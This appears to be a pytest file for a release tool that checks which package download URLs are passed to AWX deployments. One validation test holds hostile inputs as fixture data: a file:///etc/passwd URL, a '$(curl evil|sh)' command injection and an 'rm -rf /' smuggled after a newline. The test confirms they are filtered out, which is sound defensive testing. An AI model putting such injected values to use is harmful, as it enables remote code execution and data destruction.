"""The manifest's per-package ``url``: where a publisher put the file, so a playbook can fetch it.

A release synced to GitHub records each package's asset URL with the publication; a deployment
through AWX then hands that URL to the playbook in ``extra_vars.trainmaster.packages[].url``, and
the URL serves exactly the pinned bytes (``get_url`` with ``checksum: sha256:…`` would accept it).
"""

from __future__ import annotations

import hashlib
import json
import subprocess
import sys
import urllib.request
from pathlib import Path

from tests.support.github import environ as github_environ
from trainmaster.ledger import SqliteLedger
from trainmaster.model import Package, Release
from trainmaster.publish import download_urls


def _ok(result):
    assert result.returncode == 0, f"exit {result.returncode}\n{result.stdout}\n{result.stderr}"
    return result


def test_a_release_synced_to_github_hands_awx_the_asset_url(project, github_fake):
    run, work, fake, _ = project
    gh = github_environ(github_fake)
    _ok(run("release", "create", "1.0.0"))
    _ok(run("deploy", "1.0.0", "--to", "dev"))
    before = fake.jobs_of("job")[-1].extra_vars["trainmaster"]["packages"][0]
    assert before["url"] is None  # not published anywhere yet

    _ok(run("sync", "--to", "github", "1.0.0", **gh))
    _ok(run("deploy", "1.0.0", "--to", "test", **gh))
    pkg = fake.jobs_of("job")[-1].extra_vars["trainmaster"]["packages"][0]
    assert pkg["url"].startswith(github_fake.origin + "/") and pkg["url"].endswith("/app.bin")
    with urllib.request.urlopen(pkg["url"], timeout=10) as answer:  # noqa: S310 (loopback fake)
        body = answer.read()
    assert hashlib.sha256(body).hexdigest() == pkg["sha256"] == hashlib.sha256(b"binary-v1").hexdigest()
    shown = json.loads(_ok(run("release", "show", "1.0.0", "--json")).stdout)
    assert shown["publications"]["github"]["remote"]["package_urls"] == {"app": pkg["url"]}


def test_only_http_urls_of_the_release_packages_are_taken_from_recorded_publications(tmp_path: Path):
    ledger = SqliteLedger(tmp_path / "ledger.db")
    pkg = Package("app", "app.bin", 3, "sha256:" + "a" * 64, "application/octet-stream")
    other = Package("web", "web.zip", 3, "sha256:" + "b" * 64, "application/zip")
    rel = Release("demo", "1.0.0", (pkg, other), {"created_by": "me"})
    ledger.insert_release(rel, "me", [
        ("aaa", "created", None, {"package_urls": {"app": "file:///etc/passwd", "web": "$(curl evil|sh)",
                                                   "ghost": "https://x.example/ghost"}}),
        ("bbb", "exists", None, {"package_urls": {"app": "https://feed.example/app.bin\nrm -rf /",
                                                  "web": "https://feed.example/web.zip"}}),
        ("ccc", "deferred", None, {"package_urls": {"app": "https://later.example/app.bin"}}),
        ("github", "created", None, {"package_urls": {"app": "https://github.example/app.bin", "web": 7}}),
    ])
    assert download_urls(ledger, rel) == {"app": "https://github.example/app.bin", "web": "https://feed.example/web.zip"}
    # ``publish:`` order comes first
    assert download_urls(ledger, rel, ["github", "bbb"])["app"] == "https://github.example/app.bin"


def test_octopus_reports_the_feed_url_of_a_package_pushed_as_it_is_and_none_for_a_wrapped_one(octopus_fake,
                                                                                              tmp_path: Path):
    from tests.support.octopus_flow import setup
    from trainmaster_octopus._publish import OctopusPublisher
    from trainmaster_octopus._settings import reset_clients

    env = {"OCTOPUS_URL": octopus_fake.url, "OCTOPUS_API_KEY": octopus_fake.api_key, "OCTOPUS_SPACE": "Default"}
    reset_clients()
    try:
        config, release, paths = setup(tmp_path, env, files={"web.tar.gz": b"\x1f\x8b web", "tool.bin": b"tool"})
        result = OctopusPublisher(env).ensure(release, paths, config)
    finally:
        reset_clients()
    assert result.state == "created", result.detail
    pushed = result.remote["packages"]["web"]
    resource = next(p for p in octopus_fake.packages.values() if p["PackageId"] == pushed["package_id"])
    # the package resource's own download link; the wrapped package's bytes are not the pinned ones
    assert result.remote["package_urls"] == {"web": octopus_fake.url.rstrip("/") + resource["Links"]["Raw"]}
    assert octopus_fake.package_bytes[resource["Id"]] == paths["web"].read_bytes()


def test_a_runner_that_fetches_the_release_from_github_hands_awx_the_asset_url(project, github_fake, tmp_path):
    run, work, fake, env = project
    gh = github_environ(github_fake)
    text = (work / "trainmaster.yaml").read_text()
    (work / "trainmaster.yaml").write_text(text.replace("defaults:", "publish: [github]\ndefaults:"))
    _ok(run("release", "create", "1.0.0", **gh))
    other = tmp_path / "other-runner"  # a fresh checkout: no ledger, no store; deploy fetches from GitHub
    other.mkdir()
    (other / "trainmaster.yaml").write_text((work / "trainmaster.yaml").read_text())
    _ok(subprocess.run([sys.executable, "-m", "trainmaster", "deploy", "1.0.0", "--to", "dev"], cwd=other,
                       env={**env, **gh}, capture_output=True, text=True, timeout=60))
    pkg = fake.jobs_of("job")[-1].extra_vars["trainmaster"]["packages"][0]
    assert pkg["url"].startswith(github_fake.origin + "/") and pkg["url"].endswith("/app.bin")
